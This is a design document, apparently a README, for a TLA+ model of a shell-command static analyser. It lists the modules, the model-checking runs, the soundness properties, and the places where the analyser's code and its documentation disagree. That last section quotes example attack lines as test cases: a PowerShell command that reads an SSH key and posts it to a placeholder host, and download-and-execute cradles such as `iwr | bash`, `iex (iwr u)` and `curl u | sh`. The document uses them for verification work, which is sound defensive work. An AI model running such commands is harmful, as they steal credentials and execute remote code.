# flowsh in TLA+

flowsh is a static analyser of shell commands.  It parses one bash, PowerShell or
JavaScript snippet, executes it abstractly, and reports the *effects* the snippet
may have: which files, hosts, processes and variables it touches, with which
certainty, and which data flows into them.  Its one promise is conservatism: what
cannot be bounded is reported as the top element ("anything may be executed"),
never as nothing (`specs/architecture/conservatism.md`).

This directory holds a model of that analyser: TLA+ modules, the TLC
configurations that check them on small instances, and proofs checked by TLAPS.
Paths below are relative to the repository root (`src/` in `PROJECT.json`).

## 1. Inventory of the system

| Part | State it keeps | Operations | Hard behaviour | What makes it correct |
|---|---|---|---|---|
| **effect IR, lattices** `engine/effect.go`, `engine/lattice.go` | none (values) | `Join`, `Meet`, `LessOrEqual`, `Key`, `Validate` | a greatest element beside finite sets; a flow role outside the key | joins are least upper bounds; a join loses nothing |
| **report** `engine/report.go` | the effects, the severity summary, the why-traces | `Normalize`, `Sort`, `Add`, `AddWhy`, codecs | order of arrival; two keys (merge and sort) that differ; repeated passes; re-pointing of traces | nothing under-reported by a merge, nothing spread over a foreign flow role, idempotence, independence of order |
| **why, score** `engine/why.go`, `engine/score.go` | none | `BuildWhy`, `WhyGaps`, breadth and score of a report | traces of effects that were merged | each effect explained; the score is monotone |
| **taint, staging** `engine/taint.go`, `engine/hostshape.go` | the labels staged per file while the statements are folded | `ApplySecretStaging`, source classes, host shapes | order of read, write and egress over several statements | a secret that reaches the network is seen whatever lies between |
| **bash frontend: execution** `front/bash/exec.go`, `front/bash/expand.go` | variables with provenance, positional parameters, pending signal, exit status, loop and call depth, step budget, effects; aliases (cloned with the state), hash and function tables (of the interpreter) | `execStmts`, `execStmt`, `execCommand`, the compound commands, `callFunc`, `dispatch`, `joinStates`, `alias`, `hash`, `set`, `shift`, `unset` | undecided branches, subshell isolation, signals through nested constructs, endless loops, recursion, mutation in place of saved cells, a name rebound between two calls | every effect of bash is in the report or the report is conservative; decided programs are exact; it always answers |
| **bash frontend: text** `front/bash/{parse,normalize,glob,builtins}.go` | none across calls | parsing (external), wrapper peeling, option bundles, globs | text processing | an unresolved name is opaque |
| **PowerShell frontend: bounded parse** `front/ps/parse.go` (first part), `budget_*.go` | one call's goroutine, channel, timer, cancellation flag, recover | `ParseTimeout`, `parseWithBudget` | two clocks and a result race; panics; an abandoned goroutine | load shows in one answer only; the call returns; the goroutine ends |
| **PowerShell frontend: lowering** `front/ps/{lower,state,aliasstate,aliases,wordeval}.go` | variables, drives, alias table with options, scopes, joins | `lower…`, `JoinStates`, `Unset`, `mapDrive`, splatting, alias declaration and removal | a refused redeclaration, seven channels that rebind a name, operands that are not known; joins after branches, loops and handlers | what the report says of a call is what runs; no access is missing; a drive or variable that may have changed is not trusted; a secret that leaves is labelled |
| **JavaScript frontend** `front/js/*.go` | lexical scopes, heap objects, completion flows, budget | `exec`, `eval`, `call`, `joinStates`, `havoc` | joins of completions, exceptions, loops, budget | every effect of the process is in the report or the report is conservative; what a binding is known to hold it holds; every way to end is foreseen |
| **binding** `bind/*.go` | none across calls | `resolve`, `expandAliases`, effect rows for options and operands | resolution order (alias, function, builtin, path, hash) | an unknown command is top |
| **knowledge base** `kb/*.go` | the loaded tables, once | `Load`, `Default`, validation | the once-only default | a document that does not validate is refused |
| **composition** `internal/analysis/*.go` | one report under construction | `analyzeBash`, `analyzePS`, `analyzeJS`, `normalizeEffects`, `buildCanonical`, `applyRemoteWriteSinks` | the order of the passes, each over what the last one left | passes after a normalisation do not undo it; a retry through a staging file has the key of the direct write; the canonical form keeps what is left behind |
| **policy** `policy/policy.go` | an immutable configuration | `New`, `Evaluate` | precedence of actions | restrictive rules win; more effects never soften the answer |
| **API, CLI, corpus** `api`, `cmd/flowsh`, `internal/corpus` | none | I/O | | |

How they interact: the CLI and the API call the analysis composition with a
source and a language.  It calls one frontend, which calls `bind` for every
simple command (`bind` looks rows up in `kb`), accumulates effects in its own
state and folds them with `Report.Normalize`; the composition adds its own
effects, normalises again, runs the staging and sink passes, builds why-traces,
the canonical form and the score.  `policy` reads the finished report.  All calls
are synchronous on one goroutine, but for the PowerShell parse, which runs on a
second goroutine under a timer.  `PROJECT.json` lists every component with its
status and, under "hazards", the places where each hard behaviour bites.

## 2. Modules

| Module | Models | State ↔ code, actions ↔ code |
|---|---|---|
| `EffectIR` | `engine/lattice.go`, `engine/effect.go`, `KindDestructiveness` | no state; a `flatSet` is `[arbitrary, elems]`, an effect a record; `FlatJoin`, `EffectJoin`, `EffectKey` are the methods |
| `ReportNormalize` | `Report.Normalize`, `Report.Sort`, `ComputeDestructiveness`; the repeated call of `normalizeEffects` | `input` = `orig`, `merged` = the rows, `group` = which row an effect joined (history), `output` = `r.Effects`; `JoinRow`/`OpenRow` are the two branches of the merge loop, `Finish` is the rest of the function, `NormalizeAgain`/`NormalizeReordered` call it again |
| `ParseSource` | the kinds of source and the answers of a parse | constants and answers shared by the next two |
| `ParseRequest` | what a caller of `ParseTimeout` is promised (abstract) | a request is open until `Decide` (the source's answer), `GiveUp` (budget) or `Crash` |
| `PsParseBudget` | `ParseTimeout`, `parseWithBudget` | `caller` and `parser` are the program counters of the two goroutines, `done` the channel, `cancel` the flag, `timer` and `clock` the two deadlines; one action per branch of the `select`, per send, per early return; implements `ParseRequest` with `gone <- caller = "crashed"` |
| `BashProgram` | the syntax trees of mvdan.cc/sh | constructors of statements; the constants `Programs`, `Names`, `Tools`; `SyntaxAssumption` says that a program is built of them, at most `MaxNesting` deep |
| `BashExec` | the interpreter of `front/bash/exec.go` over the state of `expand.go` | `stack` is the Go call stack: a frame is a call in progress together with what it restores (`prev` state, `savedCtl`) or decides on return; `names` holds the tables of the interpreter (`funcs`, `hash`, `hashOpaque`, `aliasOpaque`), `sigma` the state that is cloned, aliases included; the other variables are fields of `interp`; an action is a call up to its next call of the interpreter, or a return; `Dispatch` is the chain a command name goes through |
| `BashShell` | bash itself (external) | a small-step semantics of the same trees, nondeterministic in exit statuses and command output; aliases are read a line at a time and stay in a function as it was read |
| `BashSoundness` | the two composed | the interpreter analyses the program, then bash runs it unless the result is conservative |
| `SecretProgram` | the syntax trees the provenance depends on, and the commands that copy bytes | constructors; the constants `Programs`, `Key` (a credential file), `Token` (a credential variable), `Remote` (a UNC path), `Unknown`; `Statements` is any set that is closed under them (`SyntaxAssumption`) |
| `SecretFlow` | the provenance in `front/bash/exec.go`, `ApplySecretStaging` and `DetectExfil` of `engine/taint.go`, `taintEgress` of `bind`, `applyRemoteWriteSinks` | `stack` is the Go call stack, a frame keeping what the call restores; `effs`, `stdin`, `stdout`, `staged`, `pending` and `cells` are the fields of `interp`; one action per call of the interpreter up to the next and per return; `Compose` is what `analyzeBash` does with the result |
| `SecretShell` | bash, by the bytes it moves (external) | which files, variables and pipes hold credential bytes, every interleaving of pipeline stages and background jobs, every command free to fail; `leaked` once such bytes leave the host |
| `SecretSoundness` | the two composed | the analysis runs, then bash does |
| `PsAliases` | `front/ps/aliasstate.go`, `resolve` of `front/ps/lower.go`, beside the session (external) | `aliases`, `aliasStateUnknown` and `pipeAlias` are the fields of `lowerer`; `sh…` is the session's alias table; one action per cmdlet, on both tables at once; `Reported` is what `resolve` and `aliasResolutionTop` make of a call |
| `PsProgram` | the trees of `front/ps/parse.go` and the walk that builds them | constructors of statements, words and pipelines; `Prelude`, `Finish` surround the constant `Programs` |
| `PsLower` | `front/ps/lower.go`, `state.go`, `wordeval.go` | `l` is the `lowerer`, handed from statement to statement; `l.state` is Σ (variables, drives, what is unknown), `l.budget` what is left of the budget, `l.effs` the effects, `l.tree` the commands that were rewritten in the tree; `Finished` merges the effects into rows and labels the rows; the walk is one synchronous function, and so one action, `Analyze` |
| `PsSession` | PowerShell (external) | the set of outcomes `[k, c]`: how a piece completed and the session after it; a variable nothing assigned holds whatever the caller left there (`Outers`) |
| `PsSoundness` | the two composed | the lowering returns, then the program runs |
| `JsProgram` | tree-sitter's trees and the builtin modules `bind.BindJS` describes | constructors; `Modules`, `Api`, `Functions` |
| `JsEval` | `evaluator.exec`, `evaluator.eval`, calls, joins, `havoc`, the builtin models | `m` is the evaluator: the state `s` (scopes with their cells, objects), the effects, the budget; `m.failed` is the panic that unwinds when the budget is spent; one action, `Analyze` |
| `JsNode` | Node.js (external) | the set of outcomes `[k, v, c]`; objects live in a heap and are shared, unknown code may change what it is given, each access may fail |
| `JsSoundness` | the two composed | `AnalyzeWith` returns, then the program runs |
| `AnalysisProgram` | calls, operands and redirections of straight-line bash | constructors; what is wide, remote, ambiguous or a credential |
| `AnalysisReport` | `analyzeBash` from effects to the report (rows, `applyRemoteWriteSinks`, `BuildWhy`, `ScoreEffects`, `buildCanonical`), then `policy.New` and `Evaluate` | `report` is the `Report` returned, `before` the one of the program before its last change; `Analyze`, `Extend` (one more call), `Retry` (an output staged in a file and moved) |
| `AnalysisShell` | the program run (external) | a call opens its redirections one by one, then runs, fails or finds a file missing; which files there are (`Present` at first), which the program wrote, where credential bytes are, which command did what |
| `AnalysisSoundness` | the two composed | the report, the report of the program changed, or the run |
| `MC…` | | constants and program sets for TLC |
| `…_proofs` | | TLAPS proofs about the module of that name (section 5) |
| `AnalysisRetry_proofs` | | TLAPS proofs about the key of a retried program, on top of `AnalysisSoundness_proofs` |
| `FoldLemmas` | | lemmas about folds over sequences and what a repeated step leaves, for the proofs |

`BashExec` and `BashShell` share `prog` only; the same is true of `SecretFlow`
and `SecretShell`, `JsEval` and `JsNode`, `PsLower` and `PsSession`,
`AnalysisReport` and `AnalysisShell`: the second of each pair is written from what
the shell or runtime does, and the soundness module compares the two.  The
interpreter's `*Var` cell of `$1` is modelled by a heap and a position in it
(`heap`, `sigma.arg`), because `callFunc` updates that cell in place while saved
states and frames still point at it.  Ordinary variables are values in
`sigma.vars`: the code replaces or updates their cells only through the running
state, and `Clone` copies them all, so no two states share one.

The bash interpreters are state machines, a call of the Go code at a time,
because saved states, shared cells and signals are what is hard about them.  The
JavaScript and PowerShell evaluators are written as functions of the program: the
Go code threads one state through a synchronous walk, and every property is about
what it returns.  Both kinds run against a nondeterministic reference.

Each definition in `map` that is followed by an operator introduced with the
word "Mutant" has a wrong form beside it (a dropped guard, a missing reset, a
shared cell); `PROJECT.json` pairs these with the property that tells them apart.

### What is abstracted

* **bash, execution.**  A target, a label and a command name are atoms.  Words
  are quoted (one word, one field); four forms are kept: a literal, `$x`,
  `${x:-v}`, and a command substitution whose output is unknown and carries
  labels.  A program invoked on a word has one effect on that word, and an unknown
  exit status.  `$1` stands for every positional parameter, and `shift` takes away
  one argument.  The bodies of functions are indexed before execution as
  `collectFuncsRaw` does and a redeclaration replaces the body; programs declare a
  function before they call it.  An alias body is one name, a hashed path the
  program it names; each statement is a line, and aliases are on, as in an
  interactive shell.  Variables start unset.  The step budget charges one unit per
  statement, loop iteration and expanded word, which is what `step` and
  `chargeExpansion` charge for short words.
* **bash, secrets.**  Control is straight-line (statement lists, groups,
  subshells, pipelines, background jobs, redirections, here-strings, command
  substitutions); branches are `BashExec`'s subject.  A label is one of *secret*,
  *file* and *untrusted*.  Files have plain names, so `PathKey` is the identity
  and the substring rule of `stagedMatch` is membership.  The destination of a
  request is left empty, a client is two egress effects (the one its option
  declares and the request itself), as `lowerParamPrimary` and the row of the
  knowledge base produce.  `CredAccess`, the network cradle and the ingest flows
  are left out.
* **PowerShell, aliases.**  An operand is a literal or a variable the script does
  not determine; an alias has one option; a pipeline enumerates aliases once.  A
  binding with an unknown option keeps its other flags in the code
  (`mayImmutable`) and has the option `"unknown"` here.  The session is external: a
  refused write leaves its table alone, and a forced write keeps an alias
  read-only.
* **PowerShell, lowering.**  A text is a sequence of atoms (a letter of a drive, a
  host, a name), so a prefix test is a test of the first atoms.  Programs declare
  no aliases, which `PsAliases` is about.  The cmdlet table is represented by the
  cmdlets whose lowering has code of its own.
* **PowerShell, parse.**  The tree walk is one step with three outcomes (a
  program, a stray error at statement level, a panic that `recover` turns into
  top).  What the tree-sitter parser does is external: it loops and polls the flag
  and its own deadline, then builds a tree without polling.  A parse stopped early
  returns a tree and the reason.
* **JavaScript.**  A string is a sequence of atoms.  Numbers, options and modes of
  calls, spread and rest, computed keys, templates, `for-in`, labels, classes and
  update assignments are left out.  The budget counts pieces of syntax.
* **Analysis.**  Straight-line programs of a dozen commands.  `-t`, credentials of
  the environment and uploads are left out here and are in `SecretFlow`.  How wide
  a path is, which shares exist and which shapes are ambiguous are constants, for
  `hostshape.go` and `score.go` classify them by their characters.

## 3. Runs

| Run | Question | Bounds |
|---|---|---|
| `normalize` | Does a merge lose or invent anything, is the result a normal form that a second pass, in any order, leaves alone, do traces follow the effects they were written for? | all batches of ≤ 3 effects of a pool of 9, all orders |
| `ps_budget` | Does the bounded parse implement a request that is answered once: load can change an answer to "budget" only, only an abandoned parse is cancelled, the caller gets an answer, the goroutine ends? | parses of ≤ 2 iterations, with and without a budget, every kind of source |
| `ps_panic` *(violation)* | Does a panic of the parser stay inside the call? | same |
| `bash_soundness` | Is everything bash does in the report of an analysis that is not conservative; is a decided analysis exact; are clones isolated; does every analysis end? | 8975 programs, budget 30, call depth 2, alias depth 8 |
| `bash_one_sided` *(violation)* | The same, when one branch of an undecided `if` sets a variable | a few dozen programs |
| `secret_flow` | Is everything that lets bash send credential bytes graded Critical, in every interleaving; is no label made from nothing, nor spread to another statement; does merging keep the finding; do labels only grow? | some 3500 programs: a source, a move, a sink |
| `secret_absorbed` *(violation)* | The first question, with one more statement that reads a file nobody knows | 12 programs |
| `ps_aliases` | Do the frontend's alias table and the session's agree after every sequence of commands; is what the report says of a call what runs; does it say "anything" only for a cause? | 4 names, 4 name, 3 value and 4 option operands; up to the first known difference or the unknown state |
| `js_soundness` | Is every access the process makes in the report, with the labels of the bytes it carries; is every way the program can end, and every value it can leave in a binding, foreseen? | some 12000 programs, constructs two deep; budget 120, a run of 45 pieces of syntax |
| `ps_soundness` | Is every access of the session in the report; does Σ know only what is so; is a secret that leaves labelled; is a download that is executed marked, and nothing else; is every bounded target real? | some 14000 programs, constructs two deep, loops of ≤ 3 turns; budget 60, ranges of ≤ 5 |
| `ps_loop_once` *(violation)* | Does Σ know only what is so after a loop whose number of turns is not known? | a few loops |
| `analysis` | Is a credential that reaches a share denied; does one more call never soften a decision; does a retry keep its key; does the canonical form keep what is left behind; is every deed explained? | some 14000 programs of ≤ 3 calls, each with one call more and with an output staged under a second name; every state of a run, in which any call may fail |

Why the bounds are enough.  *normalize*: the merge compares an effect with one
row at a time, and the pool holds, for one kind and mode, effects that differ in
each other field, so three effects reach every pairing and a third one that joins
a joined row; the proofs cover every length.  *ps_budget*: two iterations leave a
poll before, between and after the work; a third repeats the second.  The proofs
cover every `MaxWork` and every set of timeouts.

*bash_soundness*: every construct is put inside every construct, around a command
and around each signal; calls are put around and inside every construct; a
variable is set, set again under up to two constructs, and read as `$x`, as
`${x:-v}` and as the subject of a `case`; a name is bound, bound again or unbound
by each of the tables, at the top, under a construct and in a function, and then
called.  A budget of 30 is enough for every terminating program of the set to
finish and is reached by the endless ones; a call depth of 2 cuts the recursive
ones after a call inside a call.  The two alternatives, an exhausted budget and a
recursion cut short, are both reached.

*secret_flow*: eleven ways to put a credential somewhere, twelve to move or
overwrite it, twenty-two to send it, and every combination of one of each.  Two
plain files and one variable let a credential pass through a file, then through a
second carrier, and let an innocent one be overwritten; a third hop repeats the
second, since the staged set and the cells are all the analysis remembers between
two statements.

*ps_aliases*: a built-in alias, a name that is nothing, a cmdlet that is also
declared as an alias and a cmdlet that is not; two names are what a copy or a
renaming relates.  The constraint `Claimed` stops at the first command that falls
under one of the eight known differences (`misled`) or leaves the alias state
unknown, after which every call is reported as "anything"; the reachable states
within it are finite, so sequences of every length are covered.

*js_soundness*, *ps_soundness*: each program is a prelude that gives bindings
their values, a body of up to two constructs around every expression or command,
and a finish that reads the bindings back and uses them as targets, so that
whatever the body left in the state is observed.  `Fuel` is above what the longest
program of the set evaluates; a run that reaches it is "stuck" and is judged by
what it did until then.  A loop turns up to three times in the session, one more
than is needed for a second turn to see what the first one left; ranges on both
sides of `MaxRangeIterations` are present.  The prelude and the finish of
*ps_soundness* read no credential, so a label is due to the body: a family of its
own combines ten ways to come by a secret (none among them), eight things that may
happen next (a branch, a loop, a handler, a read of a known or an unknown file)
and ten ways to send it.  Programs with an unrolled loop around a splat reach the
rewritten command on the second turn.

*analysis*: three calls are a source, a move and a sink; the fourth, which
`Extend` adds, is what a decision may not be softened by.

Deadlock is checked in every run but `normalize`, `ps_budget` and `ps_panic`: in
the soundness modules `Over` is enabled only when both machines have finished, so
any other state without a successor is an error (a frame no action handles).  A
normalisation and a bounded parse do stop; their configurations say so.

### Fairness

`BashSoundness`, `JsSoundness` and `PsSoundness` assume weak fairness of the next
step: the analysis is one goroutine that nothing blocks.  `PsParseBudget!SpecFair`
assumes weak fairness of the caller, of the timer and of the parser's goroutine:
the Go scheduler runs every runnable goroutine and a timer that is armed fires.
`ParseRequest` asks only that a request is answered or the process gone, and gets
that from this fairness.  A parse that *stalls* has no step enabled between its
last poll and its end, so fairness of the parser does not make it end; this is the
case the timer exists for.  The other specifications state safety only.

### Properties

* `NothingLost`, `NothingInvented`: a row is exactly the join of the effects that
  went into it; both directions together say that normalisation is a reordering
  of information and no approximation.
* `NormalFormIsStable`: what the composition relies on when it normalises a report
  a second time, after it added effects of its own.
* `TracesFollowEffects`: after a merge and a sort, the trace recorded for an
  effect names the row that effect went into, whenever its key belongs to one
  row.  A key shared by two flow roles is ambiguous: the code falls back to the
  row of that kind and mode if there is one only, or keeps the key (`Resolve`).
* `SourceDecidesOrBudget`: over every interleaving of two clocks and a result,
  the answer is a function of the source, or the one answer that says the budget
  was exhausted.  A tree cut short is never lowered.
* `ImplementsRequest`: two goroutines, a channel, a flag and two clocks keep the
  promise of a request that is answered once, and keep it in the end.
* `OnlyAbandonedIsCancelled`, `ParseEnds`: the life of the flag and the goroutine.
* `NoSilentMiss`: the promise of the analyser, against an independent semantics
  of the shell.  `DecidedIsExact` is its converse on programs where no branch was
  guessed: without it, an interpreter that always answers "anything" would do.
* `Isolated`: the fact inside the interpreter the above rests on: saved states
  share no cell with the running one.
* `AlwaysAnswers`: the step budget makes the interpreter total.
* `LeakIsCritical`: what a user of the report relies on.  It relates the order in
  which bytes move at run time, over all interleavings and failures, to sets of
  labels computed in program order.
* `NothingFabricated`, `NoSpread`: the converse.  Without them, labelling every
  request secret would do.
* `MergeKeepsFindings`: merging the effects into rows, on which `DetectExfil`
  works, hides no pair that the effects themselves show.
* `LabelsOnlyGrow`: an action property; the frontend revisits effects it recorded
  earlier (staging, queued egress, stdin of a group), and may only add to them.
* `CallsAreFaithful`: aliasstate.go's purpose, against the session's table;
  `TablesAgree` is why it holds, name by name.  `NoNeedlessDoubt` is the converse:
  without it, a frontend that trusts no name would do.
* `JsNoSilentMiss`: the promise, for JavaScript.  A stale field of a shared object,
  a handler that was thought unreachable or a builtin replaced by unknown code each
  loses an access.
* `OutcomeForeseen`: the flows that `exec` returns (normal, return, break, throw)
  include the one the program takes, and the state joined into that flow covers
  the values the process has.
* `PsNoSilentMiss`: the promise, for PowerShell, with Σ deciding targets.
  `TargetsAreReal` is its converse: a bounded target is one that some run touches.
* `KnowledgeIsTrue`: the joins, `Unset`, `mapDrive` and the automatic variables,
  against every way a program can go.
* `LeakIsLabelled`: the row that covers a request with a secret in it is labelled,
  whether the secret went through variables, pipelines, splatted tables, copies of
  files or the environment.  The label is given to rows, after the merge: a
  program whose reads include an unknown file (`Absorbed`) is excused, unless the
  secret is spelled in the address, where the label comes with the text.  A
  conservative report may have no row for the request; one it has must be labelled.
* `CradleIsThePipe`: a download is marked as executed exactly when what was fetched
  flows into an interpreter, and not when a program only holds both.
* `LeakIsDenied`: the whole chain: an effect, its row, the sink pass, the exfil
  pair, the score and the policy.
* `DecisionNeverSoftens`: rows join, scores are maxima and rules have a precedence;
  this is what the three add up to.
* `RetryKeepsKey`, `CanonicalIsDurable`: the two sides of the canonical form:
  it forgets how an output was staged and nothing else.
* `EveryDeedIsExplained`: traces are matched to rows after effects were merged and
  effects were added; each deed still finds the command that did it.

## 4. Where the code and its documentation disagree

Those that name a run are exhibited by it, and `PROJECT.json` quotes the sentence.
The others were met while the two sides of a soundness statement were compared:
each is a form of program the MC modules keep out of a passing run, or a guard
named beside a property, so that the property is checked on everything else.

**Report and parse**

* *Row order*: rows are sorted by `Effect.Key`, which does not spell the flow
  role, while the merge keeps roles apart; two rows that differ in role only stay
  in order of arrival, and two reports of the same effects are not byte-identical.
* *Panic under a budget* (`ps_panic`): `recover` is deferred on the caller's
  goroutine, the parser runs on another one.

**bash, execution**

* *One-sided variable* (`bash_one_sided`): `joinStates` deletes a variable that one
  branch set, so `${x:-d}` is the known default and the taint is gone.
* *Unknown argument*: `callFunc` binds `$1` with `SetKnown` even if the word is
  unknown, as the empty string.
* *Argument after a nested call*: the saved positional parameters are pointers to
  cells the nested call overwrites.
* *Optional assignment*: the right-hand side of an undecided `&&`/`||` runs on the
  state itself and is kept as certain.
* *Stray break*: `loopDepth` still counts the caller's loops inside a subshell, a
  pipeline stage or a function body.  The reference is bash 5.0 and later for
  subshells, 4.4 and later for functions; older releases let the signal reach the
  caller's loop.

**bash, names**

* `funcRaw`, `hashTable` and the opacity flags belong to the interpreter, not to
  the state: a declaration, `hash -p`, `hash -r` or `unset -f` in a subshell or in
  a branch that may not run is taken as certain by what follows.
* `joinStates` keeps the aliases of the first branch only (`expand.go:326`).
* A call that precedes a redeclaration runs the later body (`collectFuncsRaw`).
* An alias declared and used on one line, or used in a function body read before
  it, is expanded by the analyser and not by bash.
* The comment at `exec.go:248-251` says that `aliasOpaque` records `alias` and
  `unalias` with an unknown operand; only `unalias` sets it.  Bare `hash NAME` drops
  a binding of `hash -p` in bash; `hashState`'s comment says it changes nothing.
* An assignment to `PATH` empties bash's hash table and not the analyser's; `PATH=…`
  before `command x` or `env x` does not reach `hashOpaque`.
* A hashed name reached through an alias with words loses the alias's words, since
  `cmd.Args` is not rewritten; an alias that names itself is reported as anything.
* `funcRebindsPositional` unsets `$1`, so `${1:-d}` is the known default and the
  labels are lost, where the comment (`exec.go:3312`) says that reads degrade to
  unknown; `shift` loses the labels of the arguments after it.

**bash, secrets**

* *Absorbed secret* (`secret_absorbed`): once an unknown file name joins the row of
  reads, the row names no credential any more and the pair is gone.  `MCSecretFlow`
  keeps reads of an unknown file out.
* `x=$({ cat key; printf done; })`: `execCall` starts each command with an empty
  output label.
* `x=$(cat a)` of a staged file: the label is taken before the staging rule promotes
  the read.
* A credential variable written to a UNC path: `remoteSinkPayload` looks at reads of
  files only.
* A here-string of a secret variable into `tee`, and a background upload of a file
  that a later statement fills.

**PowerShell, aliases.**  `PsAliases!misled` collects the commands on which the
frontend and the session part; what is claimed ends with the first of them: a
redeclaration of an alias whose option is not known (kept with its old target), a
write to a built-in alias the session holds read-only, `New-Alias` or `New-Item` on
an existing name (refused by the session unless forced), an `Alias:` path spelled
with a variable (read as text), the removal of a declared alias that hides a
built-in one, a copy or renaming onto or of an immutable alias (`rebindAlias`
assigns the destination without asking `replaceable`), a renaming onto an alias
that exists, and `Set-Item -Force` on an immutable alias (`-Force` is not read).
Left out altogether: chains of aliases (`Chained`), a destination given by position,
`New-Item -Path Alias: -Name n`, declarations through a rebound `sal` or `nal`, and
declarations in a branch that may not run, which the frontend takes as certain.

**PowerShell, lowering**

* *Loop once* (`ps_loop_once`): a loop of unknown iteration count is lowered once
  and its body's assignments are taken as certain (`lower.go:310-312`, `344`).
* The bodies of `try` and `catch` are taken as certain in the same way; the loop
  variable of a `foreach` left by `break` is known as the last element; code after
  an unconditional `break` or `continue` is still reported.
* `$a, $b = $b, $a` evaluates and assigns element by element (`lower.go:2086-2093`);
  `$a, $b = 'p'` binds both; `'1' += 1` is typed as a sum.
* A join drops the taint of a variable set on one side.
* `mapDrive` keeps a text as known when only the evaluated text lies on an
  unresolved drive; `New-PSDrive` onto an existing drive replaces it;
  `Remove-PSDrive` with an unknown name leaves the known drives; a relative
  `Set-Location` is not resolved.
* `Set-Item Env:`, `Remove-Item Env:` and `Set-Content Variable:` leave Σ as it was;
  provider paths spelled through variables are classified by their spelling; the
  case `Registry` of `assignment` is unreachable; the Windows option reports raw
  registry text.
* Launchers and the probe return before `argumentEnvReads`; `'x' + $env:T` and
  parenthesised expressions lose their `EnvRead`.
* A string left on the pipeline inside a block emits no `Stdio`; the positional
  value of `Set-Content` and `Set-Item` is reported as a target; a hashtable
  interpolates as known empty text.
* *Reused splat*: `expandSplat` writes the expansion into the tree
  (`lower.go:2193-2218`, `2256`), so a second turn of an unrolled `foreach` finds the
  entries of the first turn in place of the splat.  If the body gives the table
  other entries, `foreach ($y in 'b','c') { $p = @{path=$y}; rm @p }` is reported as
  deleting `b` twice and never `c`.  `PsLower` rewrites the tree as the code does;
  the programs of the run leave the table as it is, or clear it after its use.
* *Absorbed read*: `finish` merges the effects before `markEgressTaint` looks for a
  secret read (`lower.go:2342-2348`), and a row joined with the read of an unknown
  file names nothing.  `$x='id_rsa'; $y=gc $x; gc $u; iwr -Uri http://h -Body $y` is
  left unlabelled, where the comment says that the pass "cannot miss an
  exfiltration" (`lower.go:2362-2364`).  It takes a credential that no command
  spells: one that does adds a `CredAccess`, which is a row of its own.  Guard
  `Absorbed` of `LeakIsLabelled`; without it the run finds such a program.
* `iwr | bash`, functions, and the inner pipeline of `iex (iwr u)` are not marked as
  cradles (`lower.go:682-686`); a range too wide to unroll makes the loop variable
  unknown, so that its egress may be.

**JavaScript**

* An object is a snapshot in the value that holds it: one held in a temporary while
  unknown code runs keeps fields that code may have replaced.
* `for (var x of …)` is not hoisted.

**Analysis**

* A write to a share joins the row of writes; when another write has no known
  target the row names no share, and no `NetEgress` is added, although
  `remote_sink.go:22` says "every write effect whose target is a UNC authority
  contributes a NetEgress to that host".
* `cmd > f; mv f b; cmd > f` loses the write of `f` in the canonical form
  (`canonical.go:45`; guard `Rewritten`), and a retry whose staging file is itself
  moved has another key.
* A retry also has another key when the staged command is the sink of a pipeline
  (`curl u | sh > f` is not among the recorded calls, so the move is of a file no
  call wrote), when it is a `mv` the program repeats (the two count as one call until
  one of them is redirected elsewhere), and when the staging file is a share or
  is named as a host or as `cat` (`Stageable`, `PlainName`).
* A `NetEgress` added by the sink pass is explained by the fallback, the first
  command of the program.
* A read of an unknown file hides the credential from the pair, as above (guard
  `Bounded` of `LeakIsDenied` and `DecisionNeverSoftens`).

## 5. Proofs

Each theorem holds for every value of the constants that satisfies the named
assumptions of its module.  A program is there any tree of the syntax, not one of
the program sets TLC explores, so what the runs say of some thousand programs the
theorems say of all of them.

### Report: `ReportNormalize_proofs`

For every set of batches of valid effects and every injective key order
(`BatchesAssumption`, `KeyRankAssumption`):

* `TypeCorrect`.  Inductive as stated.
* `RowsAreUnique` (`OneRowPerKey`, which no run states): a new row is opened only if
  no row carries the key, and a join keeps the key of its row.
* `MergeLosesNothing` (`NothingLost`): rests on `EffectJoinUpper` (a join is above
  both arguments when kind, mode and role agree) and `EffectLeqTransitive` (a row
  that grows stays above the effects it already holds).
* `MergeInventsNothing` (`NothingInvented`): a join has a target, a label or a
  claim only from one of its two arguments; the row's own contributors are kept
  because `SameRow` is preserved.
* `NormalFormsAreStable` (`NormalFormIsStable`) relates two passes.  The invariant
  `Stable` adds what a pass ends with (`Normal`: rows in order, one for each key,
  and what the effects *fold* into), what the first pass left to the second
  (`Kept`), and how far a pass over rows has copied them (`Reopened`).  `Folded` is
  a set of rows above every effect, each grounded in effects of its own; there is
  at most one such set (`FoldedOnce`), which is why the order of the batch cannot
  matter.  That sorting what is sorted moves nothing is a pigeonhole argument
  (`IncreasingIsIdentity`).
* `TracesFollowTheirEffects` (`TracesFollowEffects`): the row an effect joined keeps
  its kind, mode and role, so a lookup by role, or by kind and mode when there is
  one such row, finds it.
* `EffectJoinLaws`, `EffectJoinIsLeast`: the algebra of `Effect.Join` on the effects
  of one row, for every pool of targets and labels.  It is commutative, associative
  and idempotent, and the least upper bound in the order `EffectLeq` that the other
  theorems are stated with; outside one row it is not commutative, since the mode and
  a role present on both sides come from the receiver.

### Bounded parse: `PsParseBudget_proofs`

For every `MaxWork` in Nat and every set of timeouts (`WorkAssumption`,
`TimeoutsAssumption`): `TypeCorrect`, `LoadShowsAsBudgetOnly`
(`SourceDecidesOrBudget`), `CancelledIsAbandoned` (`OnlyAbandonedIsCancelled`) and
`ImplementsRequestSteps`, the refinement: every behaviour starts as a request does
and every step is one of the request or a stutter.  `ImplementsRequest` adds the
request's liveness to it, which is model-checked.  The safety property is not
inductive: a state in which the tree of another source waits in the channel
satisfies it.  The invariant `IInv` adds `CallOpen` (where the caller's program
counter, the timer and the answer agree; the flag is raised only after the answer
"budget") and `ParseExplained` (a tree is what the source decides or carries the
reason it was stopped, and whatever is in the channel is that tree).  The step lemma
has one step per action; `JudgeSound` and `RejectSound` isolate the cascade of
answers, `SameSources` the constants that the two modules share.

### Bash interpreter: `BashSoundness_proofs`

For every set of programs nested at most `MaxNesting` deep, every budget, call depth
and alias depth (`BoundsAssumption`, `ProgramAssumption`, `SyntaxAssumption`):

* `TypeCorrect` and `SavedStatesAreIsolated` (`Isolated`).  `IInv` has three parts.
  `Typed` says for each kind of frame which trees, states and tables it holds; that
  a part of a statement is a statement again rests on `Nested`, the levels of the
  syntax (`StatementsGrow`).  `Apart` says that no cell of `$1` in a saved state is
  that of another saved state or of the running one, and that all of them exist:
  `Isolated` alone compares the saved ones with the running one, and the state put
  back by a return would be compared with nothing.  `Counted` says that `loopDepth`
  and `depth` are the numbers of frames on the stack that raise them, without which
  `depth <= MaxFuncDepth` is lost on a return.
* `SilentRunsAreComplete` (`SilenceIsComplete`, stated there only): a result that is
